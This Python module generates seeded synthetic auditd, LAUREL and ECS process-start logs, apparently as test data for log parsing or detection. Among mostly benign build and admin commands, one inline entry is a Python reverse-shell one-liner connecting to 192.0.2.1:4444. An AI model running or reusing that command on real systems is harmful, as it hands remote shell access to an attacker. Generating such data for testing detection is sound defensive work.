"""Writes logs of program starts from a fixed seed, as a host that builds and serves makes them: auditd, LAUREL, ECS."""

from __future__ import annotations

import json
import random
from typing import IO, TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Iterator

_TOOLS = (
    "/usr/bin/gcc -O2 -c src/{n}.c -o build/{n}.o", "/usr/bin/ls -la /srv/{n}", "/usr/bin/cat /etc/hostname", "/usr/bin/date +%s",
    "/usr/sbin/iptables -w -t filter -L", "/usr/bin/grep -c error /var/log/app-{n}.log", "/usr/bin/stat /srv/{n}",
    "/usr/lib/gcc/cc1 -quiet src/{n}.c", "/usr/bin/as -o build/{n}.o", "/usr/bin/ld -o build/{n}", "/usr/bin/cp a{n} b{n}",
    "/usr/bin/sleep 1", "/usr/bin/id -u", "/usr/bin/dirname /srv/{n}/x", "/usr/bin/systemctl is-active app{n}",
)  # fmt: skip
_SCRIPTS = (
    "/usr/bin/python3 /srv/app/worker.py --shard {n}", "/usr/bin/perl /usr/share/munin/plugin.pl {n}", "/usr/bin/bash /srv/run.sh {n}",
    "/usr/bin/sed s/a/b{n}/ x", "/usr/bin/git status", "/usr/bin/make -j2 t{n}", "/usr/bin/awk {{print}} x{n}",
)  # fmt: skip
_SHELLS = ("/bin/sh|-c|iptables --version", "/bin/sh|-c|ls /srv/{n} | wc -l", "/bin/bash|-c|date && uptime")
_INLINE = (
    "/usr/bin/python3|-c|import os; print(os.getpid())",
    "/usr/bin/perl|-ne|print if /x{n}/",
    "/usr/bin/python3|-Sc|import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0)",
    "/usr/bin/node|-p|process.version",
    "/usr/bin/ruby|-e|puts {n}",
    "/usr/bin/php|-r|echo {n};",
)


class Start(NamedTuple):
    """One program start."""

    argv: tuple[str, ...]
    inline: bool


def starts(count: int, seed: int = 7) -> Iterator[Start]:
    """Yield as many starts: of a hundred, 70 of tools, 18 of scripts, 9 of shells and 3 with inline text."""
    rng = random.Random(seed)
    for _ in range(count):
        draw, number = rng.random(), rng.randrange(25)
        if draw < 0.70:
            yield Start(tuple(rng.choice(_TOOLS).format(n=number).split(" ")), inline=False)
        elif draw < 0.88:
            yield Start(tuple(rng.choice(_SCRIPTS).format(n=number).split(" ")), inline=False)
        elif draw < 0.97:
            yield Start(tuple(rng.choice(_SHELLS).format(n=number).split("|")), inline=False)
        else:
            yield Start(tuple(rng.choice(_INLINE).format(n=number).split("|")), inline=True)


def _encoded(word: str) -> str:
    """Return a word as the kernel writes it (audit_log_untrustedstring)."""
    data = word.encode()
    return data.hex().upper() if any(byte < 0x21 or byte > 0x7E or byte == 0x22 for byte in data) else f'"{word}"'


def auditd(out: IO[str], count: int, seed: int = 7) -> int:
    """Write an audit log with as many starts, and other records between them; return the number of records."""
    rng = random.Random(seed + 1)
    now, serial, records, pid = 1_750_000_000.0, 1000, 0, 2000
    parents = [1, *range(800, 840)]  # services and shells that live long
    for start in starts(count, seed):
        now, serial, pid = now + rng.random() / 5, serial + 1, pid + 1 if pid < 30_000 else 2000
        head = f"msg=audit({now:.3f}:{serial})"
        exe = start.argv[0]
        name = exe.rpartition("/")[2][:15]
        words = " ".join(f"a{at}={_encoded(word)}" for at, word in enumerate(start.argv))
        lines = [
            f"type=SYSCALL {head}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c0ffee a1=55d0c1ffee a2=55d0c2ffee a3=8 items=2 "
            f"ppid={rng.choice(parents)} pid={pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 "
            f'comm="{name}" exe="{exe}" subj=unconfined key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="ops" UID="root" GID="root"',
            f"type=EXECVE {head}: argc={len(start.argv)} {words}",
            f'type=CWD {head}: cwd="/srv/app"',
            f'type=PATH {head}: item=0 name="{exe}" inode={rng.randrange(10**6)} dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL '
            "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            f'type=PATH {head}: item=1 name="/lib64/ld-linux-x86-64.so.2" inode=262146 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 '
            "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            f"type=PROCTITLE {head}: proctitle={chr(0).join(start.argv).encode()[:128].hex().upper()}",
        ]
        if "sh" in name and rng.random() < 0.02:
            parents[rng.randrange(1, 40)] = pid
        if rng.random() < 0.5:
            serial += 1
            lines.append(
                f"type=USER_ACCT msg=audit({now:.3f}:{serial}): pid={pid} uid=0 auid=4294967295 ses=4294967295 "
                f'msg=\'op=PAM:accounting acct="root" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success\''
            )
        if rng.random() < 0.1 and len(lines) > 3:
            lines[1], lines[2] = lines[2], lines[1]
        out.write("\n".join(lines) + "\n")
        records += len(lines)
    return records


def laurel(out: IO[str], count: int, seed: int = 7) -> None:
    """Write a LAUREL log with as many starts."""
    now = 1_750_000_000.0
    for number, start in enumerate(starts(count, seed)):
        now += 0.1
        row = {
            "ID": f"{now:.3f}:{number}", "NODE": "web1",
            "SYSCALL": {
                "arch": "0xc000003e", "syscall": 59, "success": "yes", "exit": 0, "items": 2, "ppid": 1000 + number % 7, "pid": 2000 + number % 30_000,
                "auid": 1000, "uid": 0, "gid": 0, "euid": 0, "suid": 0, "fsuid": 0, "egid": 0, "sgid": 0, "fsgid": 0, "tty": "pts1", "ses": 1,
                "comm": start.argv[0].rpartition("/")[2], "exe": start.argv[0], "key": "exec", "ARCH": "x86_64", "SYSCALL": "execve",
                "AUID": "ops", "UID": "root", "GID": "root", "ARGV": ["0x63b29337fd18", "0x63b293387d58", "0x63b293375640", "0x8"],
            },
            "EXECVE": {"argc": len(start.argv), "ARGV": list(start.argv)}, "CWD": {"cwd": "/srv/app"},
            "PATH": [
                {"item": at, "name": start.argv[0], "inode": 261214, "dev": "ca:03", "mode": "0o100755", "ouid": 0, "ogid": 0, "rdev": "00:00",
                 "nametype": "NORMAL", "cap_fp": "0x0", "cap_fi": "0x0", "cap_fe": 0, "cap_fver": "0x0", "OUID": "root", "OGID": "root"}
                for at in range(2)
            ],
            "PROCTITLE": {"ARGV": list(start.argv)},
        }  # fmt: skip
        out.write(json.dumps(row, separators=(",", ":")) + "\n")


def ecs(out: IO[str], count: int, seed: int = 7) -> None:
    """Write the events of auditbeat (ECS) with as many starts."""
    for number, start in enumerate(starts(count, seed)):
        row = {
            "@timestamp": f"2025-06-15T15:{number // 60 % 60:02d}:{number % 60:02d}.000Z",
            "event": {"module": "auditd", "category": ["process"], "action": "executed", "outcome": "success", "kind": "event", "type": ["start"]},
            "user": {"id": "0", "name": "root", "audit": {"id": "1000", "name": "ops"}, "group": {"id": "0", "name": "root"}},
            "process": {
                "pid": 2000 + number % 30_000, "parent": {"pid": 1000 + number % 7}, "name": start.argv[0].rpartition("/")[2],
                "executable": start.argv[0], "working_directory": "/srv/app", "args": list(start.argv), "title": " ".join(start.argv),
            },
            "auditd": {
                "message_type": "syscall", "sequence": number, "result": "success", "session": "3",
                "summary": {"actor": {"primary": "ops", "secondary": "root"}, "object": {"primary": start.argv[0], "type": "file"}, "how": start.argv[0]},
                "data": {"arch": "x86_64", "syscall": "execve", "exit": "0", "a0": "55d0", "a1": "55d1", "a2": "55d2", "tty": "pts0", "argc": "3"},
            },
            "host": {"name": "web1", "hostname": "web1", "architecture": "x86_64", "os": {"family": "debian", "name": "Debian", "kernel": "6.1.0"}},
            "agent": {"type": "auditbeat", "version": "8.13.0", "id": "5c0ffee"}, "ecs": {"version": "8.0.0"},
        }  # fmt: skip
        out.write(json.dumps(row, separators=(",", ":")) + "\n")
